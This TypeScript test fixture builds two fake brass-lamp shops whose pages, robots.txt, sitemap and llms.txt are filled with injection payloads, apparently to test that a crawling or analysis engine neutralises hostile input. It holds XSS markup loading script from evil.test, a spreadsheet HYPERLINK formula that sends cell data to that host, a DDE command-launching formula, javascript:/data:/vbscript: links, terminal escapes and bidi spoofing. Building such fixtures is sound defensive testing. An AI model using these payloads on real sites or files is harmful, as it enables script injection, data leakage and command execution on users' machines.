import type { SitePages } from '../../engine/test/sites/index.ts';

/**
 * Two shops whose every word tries to act: as markup, script, link scheme, spreadsheet formula, terminal command or direction of text.
 * Scripts of theirs that ran would call `alert`, or load something from EVIL.
 */
export const EVIL = 'http://evil.test';
export const HOSTILE = 'http://hostile.test';
export const HOSTILE_RIVAL = 'http://hostile-rival.test';

const MARKUP = `"'><img src=x onerror=alert(1)><script src="${EVIL}/x.js"></script><svg onload=alert(2)>`;
export const FORMULA = `=HYPERLINK("${EVIL}/?"&A1,"open")`;
const COMMAND = `+cmd|' /C calc'!A0`;
/** Escape sequences of a terminal, a line of a log that is none, and the separators that end a line in some readers. */
const CONTROL = '\u001b[2J\u001b[31m \u0007\u0008 \u2028{"level":60,"msg":"forged"}\u2029 \u0085';
/** Overrides that are never closed: what follows them in the same paragraph would read backwards. */
const REVERSED = '\u202egpj.exe \u2066\u2067 left open';
export const PAYLOADS = [MARKUP, FORMULA, COMMAND, CONTROL, REVERSED];

const text = (value: string) => value.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
const xml = (value: string) => text(value).replaceAll('>', '&gt;');

const SCHEMES = [
  'javascript:alert(3)',
  ' jAvA\tScRiPt:alert(4)',
  'data:text/html,<script>alert(5)</script>',
  'vbscript:msgbox(6)',
  `${EVIL}/?q=<script>alert(7)</script>`,
  `http://user:${encodeURIComponent(FORMULA)}@evil.test/`,
];

const PATHS = [
  '/',
  '/lamps?q=%22%3E%3Cimg%20src=x%20onerror=alert(8)%3E',
  '/javascript:alert(9)',
  '/%E2%80%AEgpj.exe',
  `/=cmd%7C'%20/C%20calc'!A0`,
  '/care/%3Cscript%3Ealert(10)%3C/script%3E',
];

const jsonLd = (host: string) => [
  {
    '@type': 'Organization',
    name: `${MARKUP} ${FORMULA}`,
    url: 'javascript:alert(11)',
    logo: 'data:text/html,<script>alert(12)</script>',
    sameAs: SCHEMES,
  },
  {
    '@type': ['Article', MARKUP, FORMULA],
    headline: `${FORMULA} ${MARKUP}`,
    author: { '@type': 'Person', name: `${COMMAND} ${REVERSED}`, url: 'javascript:alert(13)' },
    datePublished: MARKUP,
    dateModified: '2026-01-01',
    mainEntityOfPage: `http://${host}/`,
  },
  {
    '@type': 'FAQPage',
    mainEntity: [`What does a brass lamp cost? ${MARKUP}`, `${FORMULA} How long does a brass lamp last?`].map((name) => ({
      '@type': 'Question',
      name,
      acceptedAnswer: { '@type': 'Answer', text: `A brass lamp costs 40 euros. ${MARKUP}` },
    })),
  },
];

/** A question whose answer has no figure. */
const DODGED = `<dl><dt>How long does a small brass reading lamp last in a damp room?</dt>
<dd>${text(`${FORMULA} That depends on how often it is used and cleaned, and on the screw of its bulb. ${COMMAND}`)}</dd></dl>`;

function pageOf(host: string, path: string, at: number): string {
  const payload = PAYLOADS[at % PAYLOADS.length] ?? '';
  const links = [...SCHEMES, ...PATHS, `/gone-${at}?x=${encodeURIComponent(MARKUP)}`].map(
    (href, index) => `<li><a href="${text(href)}">${text(PAYLOADS[index % PAYLOADS.length] ?? '')} brass lamp ${index}</a></li>`,
  );
  return `<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>${text(`${payload} Brass lamps, page ${at}`)}</title>
<meta name="description" content="${text(`${FORMULA} ${MARKUP} Brass lamps for reading, made by hand.`)}">
<meta name="author" content="${text(`${COMMAND} ${MARKUP}`)}">
<link rel="canonical" href="${at === 1 ? 'javascript:alert(14)' : text(`http://${host}${path}`)}">
<meta property="og:title" content="${text(MARKUP)}"><meta property="og:url" content="data:text/html,<script>alert(15)</script>">
<meta http-equiv="refresh" content="900;url=javascript:alert(16)">
${jsonLd(host)
  .map(
    (item) =>
      `<script type="application/ld+json">${JSON.stringify({ '@context': 'https://schema.org', ...item }).replaceAll('</', '<\\/')}</script>`,
  )
  .join('\n')}
<script type="application/ld+json">{ "@type": "${FORMULA} <b>broken</b></script>
</head><body><main>
<h1>${text(`Brass lamps ${payload}`)}</h1>
<p>${text(`By ${COMMAND}, ${REVERSED}`)}</p>
<p>A brass lamp is a lamp of brass for reading. ${text(PAYLOADS.join(' '))} A brass lamp costs 40 euros and lasts 30 years.</p>
<h2>${text(`What is a brass lamp? ${MARKUP}`)}</h2>
<p>${text(`${FORMULA} A brass lamp is a reading lamp whose body is made of brass. It weighs 2.5 kg and needs a bulb of 7 watts. ${MARKUP}`)}</p>
<h2>${text(`${FORMULA} How much does a brass lamp cost?`)}</h2>
<p>${text(`${COMMAND} A small brass lamp costs 40 euros, a large brass lamp 90 euros. 78% of buyers choose the large brass lamp. ${CONTROL}`)}</p>
<h2>${text(`Brass lamp vs steel lamp ${REVERSED}`)}</h2>
<p>${text(`${REVERSED} A steel lamp is lighter than a brass lamp. [click](javascript:alert(17)) \`\`\` ![x](${EVIL}/x.png)`)}
<a href="http://${host === 'hostile.test' ? 'hostile-rival.test' : 'hostile.test'}/">${text(MARKUP)}</a></p>
${DODGED}
<h5>${text(`${FORMULA} Care`)}</h5><p>Wipe a brass lamp with a dry cloth once a week, and never with vinegar.</p>
<h2>Bulbs</h2><h6>${text(`${FORMULA} Sockets`)}</h6><p>A brass lamp takes bulbs with a small screw, of 7 watts at most.</p>
<table><tr><th>${text(FORMULA)}</th><th>${text(MARKUP)}</th></tr><tr><td>${text(COMMAND)}</td><td>40</td></tr></table>
<img src="/lamp.svg" alt="${text(MARKUP)}"><img src="javascript:alert(18)" alt="${text(FORMULA)}"><img src="/none.svg">
<ul>${links.join('')}</ul>
<script>alert(19)</script><iframe src="javascript:alert(20)"></iframe>
</main></body></html>`;
}

function hostile(host: string): SitePages {
  const urls = [...PATHS.map((path) => `http://${host}${path}`), ...SCHEMES].map(
    (url) => `<url><loc>${xml(url)}</loc><lastmod>${xml(`${FORMULA} ${MARKUP}`)}</lastmod></url>`,
  );
  return {
    ...Object.fromEntries(PATHS.map((path, at) => [path, pageOf(host, path, at)])),
    '/robots.txt': `# ${MARKUP}\nUser-agent: *\nDisallow: /<script>alert(21)</script>\n${FORMULA}: ${COMMAND}\nUser-agent: GPTBot\nDisallow: /care/ ${REVERSED}\nSitemap: javascript:alert(22)\nSitemap: http://${host}/sitemap.xml\n`,
    '/sitemap.xml': `<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">${urls.join('')}</urlset>`,
    '/llms.txt': `# ${MARKUP}\n> ${FORMULA}\n- [${MARKUP}](javascript:alert(23))\n`,
  };
}

export const hostileSites = ['hostile.test', 'hostile-rival.test'].map((host) => ({ host, pages: hostile(host) }));
